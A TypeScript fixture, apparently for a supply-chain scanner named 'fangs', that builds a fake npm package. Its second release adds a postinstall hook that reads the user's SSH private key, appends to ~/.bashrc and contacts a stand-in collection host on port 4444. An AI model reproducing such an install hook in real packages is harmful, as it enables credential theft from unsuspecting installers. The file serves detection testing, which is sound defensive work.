import type { PackageFiles } from "../npm/local-registry.ts";

export const DEMO_PACKAGE = "fangs-demo";
export const DEMO_RELEASES = ["1.0.0", "1.1.0"] as const;

/** A package whose second release turns bad. Harmless: its names exist nowhere, its secrets are decoys. */
export function demoPackage(version: (typeof DEMO_RELEASES)[number]): PackageFiles {
  const manifest = {
    name: DEMO_PACKAGE,
    version,
    description: "Demonstrates fangs.",
    main: "index.js",
    scripts: { postinstall: "node postinstall.js" },
  };
  const bad = version === "1.1.0";
  return {
    "package.json": `${JSON.stringify(manifest, null, 2)}\n`,
    "index.js": "module.exports = (text) => `demo: ${text}`;\n",
    "postinstall.js": POSTINSTALL + (bad ? THEFT : ""),
    "worker.js": bad ? "setTimeout(() => {}, 60_000);\n" : "// Nothing to do in the background yet.\n",
  };
}

// --- internal ---

/** What both releases do: look for an update, and start a helper. */
const POSTINSTALL = `const { spawn } = require("node:child_process");
const { connect } = require("node:net");

const say = (port, host, words = "") =>
  new Promise((resolve) => {
    const socket = connect(port, host, () => socket.end(words));
    socket.on("close", resolve).on("error", resolve);
    socket.setTimeout(3000, () => socket.destroy());
    socket.resume();
  });

spawn(process.execPath, ["worker.js"], { detached: true, stdio: "ignore" }).unref();
const checked = say(7070, "updates.fangs-demo.example");
`;

/** What only the second does. */
const THEFT = `
const { appendFileSync, readFileSync } = require("node:fs");
const { homedir } = require("node:os");

checked.then(() => {
  readFileSync(homedir() + "/.ssh/id_ed25519");
  appendFileSync(homedir() + "/.bashrc", "# fangs demo was here\\n");
  return say(4444, "collect.fangs-demo.example", "hello");
});
`;
